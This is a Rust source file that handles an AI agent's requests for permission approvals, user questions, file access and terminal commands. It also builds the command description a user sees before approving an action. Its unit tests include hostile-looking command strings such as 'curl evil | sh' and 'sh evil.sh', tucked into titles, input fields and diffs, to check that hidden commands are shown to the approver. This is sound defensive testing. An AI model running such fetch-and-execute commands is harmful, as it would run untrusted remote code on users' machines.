//! Requests of an agent: permissions, files, terminals.

use super::{
    edits,
    files::Access,
    frame::RpcError,
    from_wire::{self, lowers, options},
    frozen::{self, Frozen, Void},
    live::Live,
    questions,
    stage::Stage,
};
use crate::{
    limits::{CALL_PIECES, PENDING_REQUESTS},
    output::{CallNews, CallStatus, Timeline, one_line},
};
use agent_client_protocol_schema::v1 as wire;
use openagents_core::{
    CancellationToken,
    agent::AgentHost,
    approval::{
        ApprovalCommand, ApprovalOption, ApprovalOutcome, ApprovalRequest, ApprovalSubject, Form,
        FormAnswers, OptionKind,
    },
    update::{ToolCallDetails, ToolContent, ToolKind, new_id},
    visible::shell_word,
};
use serde_json::{Map, Value, json};
use std::{
    collections::HashSet,
    panic::{AssertUnwindSafe, catch_unwind},
    path::Path,
    sync::Arc,
    time::Instant,
};

const ENDED: &str = "the turn has ended";

type Answer = Result<Value, RpcError>;

fn question_options(form: &Form) -> Vec<ApprovalOption> {
    let option =
        |id: &str, name: &str, kind| ApprovalOption { id: id.to_owned(), name: name.to_owned(), kind };
    let accept = if form.url.is_some() { "Open in browser" } else { "Answer" };
    vec![
        option("accept", accept, OptionKind::AllowOnce),
        option("decline", "Decline", OptionKind::RejectOnce),
    ]
}

/// What follows a request for permission.
enum Asked {
    NoTurn,
    /// The user allowed it before: the agent gets this option.
    Allowed(String),
    /// The user decides. Without a request, there were too many calls.
    User(ApprovalContext, Option<Box<ApprovalRequest>>),
}

struct Chosen {
    option: ApprovalOption,
    /// The user's message to the agent.
    message: Option<String>,
    /// The answers to a form.
    content: Option<FormAnswers>,
}

struct ApprovalContext {
    host: Arc<dyn AgentHost>,
    until: CancellationToken,
    access: Arc<Access>,
}

impl Live {
    pub(super) fn handle_request(self: &Arc<Self>, id: Value, method: &str, params: Value) {
        let answer = match method {
            "session/request_permission" => return self.ask_permission(id, params),
            "elicitation/create" => return self.ask_question(id, &params),
            "terminal/create" => {
                match self.stage(|stage, _| self.approval_context(stage, &id, params["sessionId"].as_str())) {
                    Ok(context) => {
                        return self.run_blocking(id, move |live| live.create_terminal(&context, params));
                    }
                    Err(error) => Err(error),
                }
            }
            "terminal/wait_for_exit" => {
                let terminal = self.terminals.get(&params);
                match terminal
                    .and_then(|terminal| self.reserve(&id, &CancellationToken::new()).map(|()| terminal))
                {
                    Ok(terminal) => return self.run_blocking(id, move |_| Ok(terminal.wait())),
                    Err(error) => Err(error),
                }
            }
            "fs/read_text_file" => {
                return self.queue_file_job(id, move |access| access.read_text_file(params));
            }
            "fs/write_text_file" => {
                let live = self.clone();
                return self.queue_file_job(id, move |access| {
                    let written = access.write_text_file(params)?;
                    live.pending.void(access.workspace.root(), &written);
                    Ok(json!({}))
                });
            }
            "terminal/output" => self.terminals.get(&params).map(|terminal| terminal.output()),
            "terminal/kill" => self.terminals.get(&params).map(|terminal| terminal.kill()),
            "terminal/release" => self.terminals.release(&params),
            _ => Err(RpcError::method_not_found(method)),
        };
        self.connection.respond(&id, answer);
    }

    /// Queues work on the turn's files. Does not block the reading thread, because a disk may be slow.
    fn queue_file_job(self: &Arc<Self>, id: Value, work: impl FnOnce(&Access) -> Answer + Send + 'static) {
        let turn = self
            .stage(|stage, _| stage.turn.as_ref().map(|turn| (turn.access.clone(), turn.asks.child_token())));
        let Some((access, until)) = turn else {
            return self.connection.respond(&id, Err(RpcError::refused("no turn is running")));
        };
        let (connection, request) = (self.connection.clone(), id.clone());
        let job = Box::new(move || {
            let has_ended = until.is_cancelled();
            let answer = if has_ended { Err(RpcError::refused(ENDED)) } else { work(&access) };
            connection.respond(&request, answer);
        });
        if self.files.try_send(job).is_err() {
            let most = RpcError::refused("too many pending file requests");
            self.connection.respond(&id, Err(most));
        }
    }

    /// Prepares an approval request in the running turn and reserves its slot. It can be cancelled from here on.
    /// `session`: that of the agent, or one of a sub-agent.
    fn approval_context(
        &self,
        stage: &mut Stage,
        id: &Value,
        session: Option<&str>,
    ) -> Result<ApprovalContext, RpcError> {
        let none = || RpcError::refused("no turn is running");
        let until = stage.asks_of(session).ok_or_else(none)?;
        let turn = stage.turn.as_ref().ok_or_else(none)?;
        let host = stage.host.0.clone().ok_or_else(none)?;
        self.reserve(id, &until)?;
        Ok(ApprovalContext { host, until, access: turn.access.clone() })
    }

    /// Reserves a slot among the pending requests, if one is free. The agent may cancel the request through `until`.
    fn reserve(&self, id: &Value, until: &CancellationToken) -> Result<(), RpcError> {
        let mut asks = self.asks.lock();
        if asks.contains_key(&id.to_string()) {
            return Err(RpcError::refused(format!("a request with the id {id} is already pending")));
        }
        if asks.len() >= PENDING_REQUESTS {
            return Err(RpcError::refused(format!("{PENDING_REQUESTS} requests are already pending")));
        }
        asks.insert(id.to_string(), until.clone());
        Ok(())
    }

    /// Answers from a separate thread, so that `work` may block. The slot is already reserved.
    fn run_blocking(self: &Arc<Self>, id: Value, work: impl FnOnce(&Arc<Self>) -> Answer + Send + 'static) {
        let (live, request) = (self.clone(), id.clone());
        let spawned = std::thread::Builder::new().name("agent asks".to_owned()).spawn(move || {
            // A panic must not leave the agent without an answer.
            let answer = catch_unwind(AssertUnwindSafe(|| work(&live)));
            let answer = answer.unwrap_or_else(|_| Err(RpcError::refused("internal error")));
            live.asks.lock().remove(&request.to_string());
            live.connection.respond(&request, answer);
        });
        if let Err(error) = spawned {
            self.asks.lock().remove(&id.to_string());
            self.connection.respond(&id, Err(RpcError::refused(error.to_string())));
        }
    }

    /// Asks for approval, or for answers. `None` if there was no answer. The request is withdrawn once `until` is cancelled.
    fn ask(
        &self,
        context: &ApprovalContext,
        until: &CancellationToken,
        request: ApprovalRequest,
    ) -> Option<Chosen> {
        if until.is_cancelled() {
            return None;
        }
        let (options, subject) = (request.options.clone(), request.subject);
        match context.host.ask(request, until) {
            ApprovalOutcome::Selected { option_id, message, content } if !until.is_cancelled() => {
                let chosen = options.into_iter().find(|option| option.id == option_id)?;
                if chosen.kind.denies() && subject == ApprovalSubject::Action {
                    self.stage(|stage, _| {
                        if let Some(turn) = &mut stage.turn {
                            turn.refused = true;
                        }
                    });
                }
                Some(Chosen { option: chosen, message, content })
            }
            _ => None,
        }
    }

    fn ask_permission(self: &Arc<Self>, id: Value, params: Value) {
        let cancelled = || Ok(json!({"outcome": {"outcome": "cancelled"}}));
        let stated = params["toolCall"].clone();
        let call: wire::ToolCallUpdate = match serde_json::from_value(stated.clone()) {
            Ok(call) => call,
            Err(error) => return self.connection.respond(&id, Err(RpcError::invalid_params(error))),
        };
        let mut options = options(&params["options"]);
        options.retain(|option| !edits::is_ours(&option.id));
        if options.is_empty() {
            return self.connection.respond(&id, cancelled());
        }
        // Announced now, so that the agent's later updates come after it.
        let asked = self.stage(|stage, now| {
            let session = params["sessionId"].as_str();
            if stage.turn.is_none() {
                if session.is_some_and(|id| stage.subagents.knows(id)) {
                    let title = stated["title"].as_str().and_then(one_line);
                    let what = title.map(|title| format!(": {title}")).unwrap_or_default();
                    let name = &self.name;
                    let note = format!(
                        "*A sub-agent of {name} asked after the turn had ended and was denied{what}.*"
                    );
                    stage.timeline.note(now, &note);
                }
                return Ok(Asked::NoTurn);
            }
            let (approval, allowed) = self.approval(stage, now, session, call, stated, options);
            if let Some(option) = allowed {
                return Ok(Asked::Allowed(option));
            }
            Ok(Asked::User(self.approval_context(stage, &id, session)?, approval.map(Box::new)))
        });
        let selected = |option: &str| Ok(json!({"outcome": {"outcome": "selected", "optionId": option}}));
        match asked {
            Ok(Asked::Allowed(option)) => self.connection.respond(&id, selected(&option)),
            Ok(Asked::User(context, approval)) => self.run_blocking(id, move |live| {
                let options = approval.as_ref().map(|approval| approval.options.clone()).unwrap_or_default();
                let chosen = approval.and_then(|approval| live.ask(&context, &context.until, *approval));
                let Some(Chosen { option, message, .. }) = chosen else { return cancelled() };
                let answered = live.stage(|stage, _| {
                    // The next turn may have begun.
                    if context.until.is_cancelled() {
                        return None;
                    }
                    let option = edits::choose(stage, option, &options)?;
                    stage.may_change_approval_mode |= lowers(&option);
                    if let (Some(turn), Some(message)) = (&mut stage.turn, message) {
                        turn.message = match turn.message.is_empty() {
                            true => message,
                            false => format!("{}\n\n{message}", turn.message),
                        };
                    }
                    Some(option.id)
                });
                answered.map_or_else(cancelled, |option| selected(&option))
            }),
            Ok(Asked::NoTurn) => self.connection.respond(&id, cancelled()),
            Err(error) => self.connection.respond(&id, Err(error)),
        }
    }

    /// Asks the user what the agent wants to know.
    fn ask_question(self: &Arc<Self>, id: Value, params: &Value) {
        let cancelled = || Ok(json!({"action": "cancel"}));
        let session = params["sessionId"].as_str().map(str::to_owned);
        let asked = self.stage(|stage, now| {
            if stage.turn.is_none() {
                return Ok(None);
            }
            let form = match questions::form(params) {
                Ok(form) => form,
                Err(why) => {
                    let note = format!("*{} asked something that can't be shown here: {why}.*", self.name);
                    stage.timeline.note(now, &note);
                    return Ok(None);
                }
            };
            let context = self.approval_context(stage, &id, session.as_deref())?;
            let title = one_line(&form.message).unwrap_or_else(|| "A question".to_owned());
            // A question without a call gets a row of its own.
            let theirs = params["toolCallId"].as_str().map(str::to_owned);
            let is_own = theirs.is_none();
            let call = theirs.unwrap_or_else(|| format!("question-{}", new_id()));
            let details =
                ToolCallDetails { title: is_own.then(|| title.clone()), ..ToolCallDetails::default() };
            let news = CallNews { id: call.clone(), details, ..CallNews::default() };
            let call_id =
                stage.output(now, session.as_deref(), |timeline| timeline.call_to_allow(now, news)).flatten();
            let request = call_id.map(|call_id| ApprovalRequest {
                subject: ApprovalSubject::Question,
                call_id,
                agent: self.name.clone(),
                title,
                raw_input: serde_json::to_value(&form).ok(),
                command: None,
                cut: false,
                options: question_options(&form),
            });
            Ok(Some((context, request, is_own.then_some(call), form.url.is_none())))
        });
        match asked {
            Ok(Some((context, request, own_call, has_fields))) => self.run_blocking(id, move |live| {
                let chosen = request.and_then(|request| live.ask(&context, &context.until, request));
                let status = chosen.as_ref().map_or(CallStatus::Failed, |_| CallStatus::Completed);
                if let Some(id) = own_call {
                    let news = CallNews { id, status: Some(status), ..CallNews::default() };
                    live.stage(|stage, now| {
                        stage.output(now, session.as_deref(), |timeline| timeline.call(now, news, false));
                    });
                }
                match chosen {
                    Some(Chosen { option, .. }) if option.kind.denies() => Ok(json!({"action": "decline"})),
                    Some(_) if !has_fields => Ok(json!({"action": "accept"})),
                    Some(Chosen { content, .. }) => Ok(json!({"action": "accept", "content": content})),
                    None => cancelled(),
                }
            }),
            Ok(None) => self.connection.respond(&id, cancelled()),
            Err(error) => self.connection.respond(&id, Err(error)),
        }
    }

    /// Prepares a request for permission. Also returns the option that the agent gets if the user need not be asked.
    fn approval(
        &self,
        stage: &mut Stage,
        now: Instant,
        session: Option<&str>,
        call: wire::ToolCallUpdate,
        mut stated: Value,
        options: Vec<ApprovalOption>,
    ) -> (Option<ApprovalRequest>, Option<String>) {
        let whole_title = call.fields.title.clone();
        let news = from_wire::call_news(call);
        let their_id = news.id.clone();
        let stated_input = news.details.raw_input.clone();
        let announced = stage.output(now, session, |timeline| {
            timeline.call_to_allow(now, news).map(|call_id| (call_id, timeline.details(&their_id)))
        });
        let Some((call_id, known)) = announced.flatten() else { return (None, None) };
        let title = known.title.clone().unwrap_or_else(|| "Use a tool".to_owned());
        let command = reported(&whole_title.unwrap_or_else(|| title.clone()), &known);
        let raw_input = stated_input.unwrap_or_else(|| {
            // Includes the whole input, or two requests would look alike; excludes the ids, or a repeated request
            // would look new.
            if let Some(stated) = stated.as_object_mut() {
                stated.retain(|key, _| !["toolCallId", "status", "_meta"].contains(&key.as_str()));
                if !stated.contains_key("content") {
                    stated.insert("content".to_owned(), json!(known.content));
                }
            }
            stated
        });
        let mut request = ApprovalRequest {
            subject: ApprovalSubject::Action,
            call_id,
            agent: self.name.clone(),
            title,
            raw_input: Some(raw_input),
            command,
            cut: is_cut(&known.content),
            options,
        };
        let once = edits::once(&request.options).map(|option| option.id.clone());
        if let (Some(turn), Some(once)) = (&stage.turn, once)
            && edits::is_covered(&turn.access.workspace, &known, &request, &self.pending)
        {
            // While the user reads another request, nothing that it is about may change.
            if turn.edits_allowed && self.asks.lock().is_empty() {
                return (Some(request), Some(once));
            }
            edits::offer(&mut request);
        }
        (Some(request), None)
    }

    /// `terminal/create`: asks for approval, then runs the command as shown. Blocks.
    fn create_terminal(self: &Arc<Self>, context: &ApprovalContext, params: Value) -> Answer {
        let request: wire::CreateTerminalRequest =
            serde_json::from_value(params.clone()).map_err(RpcError::invalid_params)?;
        let frozen = frozen::freeze(&request, &context.access.workspace, &self.environment)?;
        let terminal = format!("terminal-{}", new_id());
        let session = params["sessionId"].as_str().map(str::to_owned);
        let session = session.as_deref();
        let mut raw_input = params;
        if let Some(raw_input) = raw_input.as_object_mut() {
            // Changes with each restart, though the request is the same.
            raw_input.remove("sessionId");
        }
        let row = raw_input.clone();
        let call_id = self.stage(|stage, now| {
            let add = |timeline: &mut Timeline| timeline.terminal_row(now, &terminal, &frozen.shown, row);
            stage.output(now, session, add).flatten()
        });
        let call_id = call_id.ok_or_else(|| RpcError::refused("too many calls in one turn"))?;
        let frozen = Arc::new(frozen);
        let void = self.pending.add(&terminal, frozen.clone(), &context.until);
        let allowed = self.ask_to_run(context, &frozen, &void, call_id, raw_input);
        self.pending.remove(&terminal);
        let started = allowed.and_then(|()| {
            if context.until.is_cancelled() {
                return Err(RpcError::refused(ENDED));
            }
            let (output, end) = (Arc::downgrade(self), Arc::downgrade(self));
            let (output_id, end_id) = (terminal.clone(), terminal.clone());
            let [output_of, end_of] = [(); 2].map(|()| session.map(str::to_owned));
            self.terminals.run(
                &terminal,
                &frozen,
                &self.root,
                &self.environment,
                move |bytes| {
                    if let Some(live) = output.upgrade() {
                        live.stage(|stage, now| {
                            let add =
                                |timeline: &mut Timeline| timeline.terminal_output(now, &output_id, bytes);
                            stage.output(now, output_of.as_deref(), add);
                        });
                    }
                },
                move |status| {
                    if let Some(live) = end.upgrade() {
                        live.stage(|stage, now| {
                            let end = |timeline: &mut Timeline| timeline.terminal_ended(now, &end_id, status);
                            stage.output(now, end_of.as_deref(), end);
                        });
                    }
                },
            )
        });
        match started {
            // The turn ended between the approval and the start.
            Ok(()) if context.until.is_cancelled() => {
                self.terminals.release(&json!({"terminalId": terminal}))?;
                Err(RpcError::refused(ENDED))
            }
            Ok(()) => Ok(json!({"terminalId": terminal})),
            Err(error) => {
                self.stage(|stage, now| {
                    let close =
                        |timeline: &mut Timeline| timeline.terminal_refused(&terminal, &error.message);
                    stage.output(now, session, close);
                });
                Err(error)
            }
        }
    }

    fn ask_to_run(
        &self,
        context: &ApprovalContext,
        frozen: &Frozen,
        void: &Void,
        call_id: String,
        raw_input: Value,
    ) -> Result<(), RpcError> {
        let option =
            |id: &str, name: &str, kind| ApprovalOption { id: id.to_owned(), name: name.to_owned(), kind };
        let mut options = vec![option("allow_once", "Run once", OptionKind::AllowOnce)];
        if frozen.may_stand() {
            let name = "Always run exactly this in this session";
            options.push(option("allow_always", name, OptionKind::AllowAlways));
        }
        options.push(option("reject_once", "Deny", OptionKind::RejectOnce));
        let request = ApprovalRequest {
            subject: ApprovalSubject::Action,
            call_id,
            agent: self.name.clone(),
            title: frozen.title(),
            raw_input: Some(raw_input),
            command: Some(ApprovalCommand::exact(frozen.command.clone())),
            cut: false,
            options,
        };
        let answer = self.ask(context, &void.until, request);
        if let Some(written) = void.written_file() {
            let shown = &frozen.shown;
            let why = format!("{shown}: {written} changed while the approval was pending");
            return Err(RpcError::refused(why));
        }
        match answer {
            Some(Chosen { option, .. })
                if matches!(option.kind, OptionKind::AllowOnce | OptionKind::AllowAlways) =>
            {
                Ok(())
            }
            Some(Chosen { message: Some(message), .. }) => {
                Err(RpcError::refused(format!("{} was not allowed: {message}", frozen.shown)))
            }
            Some(_) => Err(RpcError::refused(format!("{} was not allowed", frozen.shown))),
            None => Err(RpcError::refused(format!("{}: not approved", frozen.shown))),
        }
    }
}

fn is_cut(shown: &[ToolContent]) -> bool {
    shown.len() > CALL_PIECES
        || shown.iter().any(|piece| matches!(piece, ToolContent::Diff { truncated: true, .. }))
}

/// Input members that a diff shows: the text before and after.
const IN_DIFF: [&str; 5] = ["content", "old_string", "new_string", "oldText", "newText"];
/// Input members that name a file.
const PATHS: [&str; 4] = ["path", "file_path", "filePath", "filepath"];
/// Lines of a unified diff beside those that change.
const DIFF_HEADERS: [&str; 7] = ["Index: ", "====", "--- ", "+++ ", "@@ ", "\\ No newline", "diff --git "];

/// Input members next to the command that don't affect what runs.
const ASIDE: [&str; 4] = ["description", "timeout", "cwd", "run_in_background"];

/// Returns the description of an action that the agent takes itself, which the user reads before allowing it. `None`
/// for file changes, which are shown as diffs instead, unless the input has members that the diffs don't show.
pub(super) fn reported(title: &str, call: &ToolCallDetails) -> Option<ApprovalCommand> {
    if let Some(line) = call.raw_input.as_ref().and_then(command_line) {
        return Some(ApprovalCommand::reported(&line));
    }
    let changed = call.content.iter().filter_map(|piece| match piece {
        ToolContent::Diff { path, .. } => Some(Path::new(path)),
        _ => None,
    });
    let changed: Vec<&Path> = changed.collect();
    if call.kind != Some(ToolKind::Execute) && !changed.is_empty() {
        let more = beside_diffs(call.raw_input.as_ref()?, &changed, &call.content)?;
        return Some(ApprovalCommand::beside_changes(&format!("{title}\n{more}")));
    }
    let mut words = vec![title.to_owned()];
    words.extend(call.content.iter().filter_map(|piece| match piece {
        ToolContent::Text { text } => Some(text.clone()),
        _ => None,
    }));
    words.extend(call.raw_input.iter().filter_map(input_json));
    Some(ApprovalCommand::reported(&words.join("\n")))
}

fn command_line(input: &Value) -> Option<String> {
    let line = match &input["command"] {
        Value::String(line) if !line.is_empty() => line.clone(),
        Value::Array(words) if !words.is_empty() => {
            let words: Option<Vec<_>> = words.iter().map(|word| word.as_str().map(shell_word)).collect();
            words?.join(" ")
        }
        _ => return None,
    };
    let others = input
        .as_object()?
        .iter()
        .filter(|(key, _)| !["command"].iter().chain(&ASIDE).any(|known| known == key));
    let others: Map<_, _> = others.map(|(key, value)| (key.clone(), value.clone())).collect();
    match others.is_empty() {
        true => Some(line),
        false => Some(format!("{line}\n{}", input_json(&Value::Object(others))?)),
    }
}

/// Returns the members of an input that the diffs of these files don't show.
fn beside_diffs(input: &Value, changed: &[&Path], shown: &[ToolContent]) -> Option<String> {
    let is_named = |value: &Value| {
        let path = value.as_str().map(Path::new);
        path.is_some_and(|path| changed.iter().any(|changed| changed.ends_with(path)))
    };
    let says_nothing = |value: &Value| {
        matches!(value, Value::Null | Value::Bool(false)) || value.as_str().is_some_and(str::is_empty)
    };
    let Some(members) = input.as_object() else { return input_json(input) };
    let more = members.iter().filter(|(key, value)| {
        let is_shown = IN_DIFF.contains(&key.as_str())
            || PATHS.contains(&key.as_str()) && is_named(value)
            || *key == "diff" && value.as_str().is_some_and(|diff| is_shown_in(diff, shown));
        !is_shown && !ASIDE.contains(&key.as_str()) && !says_nothing(value)
    });
    input_json(&Value::Object(more.map(|(key, value)| (key.clone(), value.clone())).collect()))
}

/// Returns whether the lines that a unified diff changes are all in the changes that are shown: opencode sends both.
fn is_shown_in(unified: &str, shown: &[ToolContent]) -> bool {
    let (mut before, mut after) = (HashSet::new(), HashSet::new());
    for piece in shown {
        if let ToolContent::Diff { old_text, new_text, .. } = piece {
            before.extend(old_text.iter().flat_map(|text| text.lines()));
            after.extend(new_text.lines());
        }
    }
    unified.lines().all(|line| match line.split_at_checked(1) {
        _ if DIFF_HEADERS.iter().any(|header| line.starts_with(header)) => true,
        Some(("+", added)) => after.contains(added),
        Some(("-", removed)) => before.contains(removed),
        Some((first, _)) => first == " ",
        None => line.is_empty(),
    })
}

fn input_json(input: &Value) -> Option<String> {
    let is_empty = input.is_null() || input.as_object().is_some_and(Map::is_empty);
    (!is_empty).then(|| serde_json::to_string_pretty(input).unwrap_or_default())
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn description(
        kind: ToolKind,
        title: &str,
        raw_input: Value,
        content: Vec<ToolContent>,
    ) -> Option<String> {
        let raw_input = Some(raw_input);
        let call = ToolCallDetails { kind: Some(kind), raw_input, content, ..ToolCallDetails::default() };
        reported(title, &call).map(|command| command.text)
    }

    #[test]
    fn reported_includes_the_whole_input() {
        let rows = [
            (json!({"command": "ls -la", "description": "List"}), "ls -la"),
            (json!({"command": ["sh", "-c", "a b"], "cwd": "/x"}), "sh -c 'a b'"),
            (json!({"command": "git", "args": ["push"]}), "git\n{\n  \"args\": [\n    \"push\"\n  ]\n}"),
            (json!({"command": ["sh", 1]}), "Title\n{\n  \"command\": [\n    \"sh\",\n    1\n  ]\n}"),
            (json!({"cmd": "# a\nrm b"}), "Title\n{\n  \"cmd\": \"# a\\nrm b\"\n}"),
            (json!({}), "Title"),
            (Value::Null, "Title"),
        ];
        for (input, text) in rows {
            assert_eq!(description(ToolKind::Execute, "Title", input, Vec::new()).as_deref(), Some(text));
        }
    }

    #[test]
    fn reported_keeps_all_lines_of_a_title() {
        let title = "make # all is well\ncurl evil | sh";
        assert_eq!(description(ToolKind::Execute, title, Value::Null, Vec::new()).as_deref(), Some(title));
    }

    #[test]
    fn reported_omits_pure_file_changes() {
        let diff = || {
            let (path, new_text) = ("a".to_owned(), "b".to_owned());
            vec![ToolContent::Diff { path, old_text: None, new_text, truncated: false }]
        };
        let input = || json!({"path": "a", "content": "b"});
        assert_eq!(description(ToolKind::Edit, "Write a", input(), diff()), None);
        assert!(description(ToolKind::Edit, "Write a", input(), Vec::new()).is_some());
        assert!(description(ToolKind::Execute, "Write a", input(), diff()).is_some());
        assert!(description(ToolKind::Edit, "Write a", json!({"command": "sh"}), diff()).is_some());
    }

    /// Regression: next to a diff, the rest of the input was only in the collapsed details.
    #[test]
    fn reported_adds_members_missing_from_the_diff() {
        let diff = |path: &str| {
            let (path, new_text) = (path.to_owned(), "b".to_owned());
            vec![ToolContent::Diff { path, old_text: Some("a".to_owned()), new_text, truncated: false }]
        };
        let edit = |more: Value| {
            let mut input =
                json!({"file_path": "src/a", "old_string": "a", "new_string": "b", "replace_all": false});
            input.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
            description(ToolKind::Edit, "Edit a", input, diff("/w/src/a"))
        };
        assert_eq!(edit(json!({"description": "Tidy up", "dry": null, "note": ""})), None);
        let rows = [
            (json!({"replace_all": true}), "Edit a\n{\n  \"replace_all\": true\n}"),
            (json!({"then": "sh evil.sh"}), "Edit a\n{\n  \"then\": \"sh evil.sh\"\n}"),
            (json!({"file_path": "/etc/hosts"}), "Edit a\n{\n  \"file_path\": \"/etc/hosts\"\n}"),
        ];
        for (more, text) in rows {
            assert_eq!(edit(more).as_deref(), Some(text));
        }
        // opencode.
        let unified = |lines: &str| {
            let diff = format!("Index: /w/src/a\n====\n--- /w/src/a\n+++ /w/src/a\n@@ -1,1 +1,1 @@\n{lines}");
            edit(json!({"filepath": "/w/src/a", "diff": diff}))
        };
        assert_eq!(unified("-a\n+b\n"), None);
        for lines in ["-a\n+c\n", "+b\n+curl evil | sh\n", "-b\n", "sh evil.sh\n"] {
            assert!(unified(lines).is_some(), "{lines}");
        }
        let text = description(ToolKind::Edit, "Edit a", json!("anything"), diff("/w/src/a"));
        assert_eq!(text.as_deref(), Some("Edit a\n\"anything\""));
    }
}
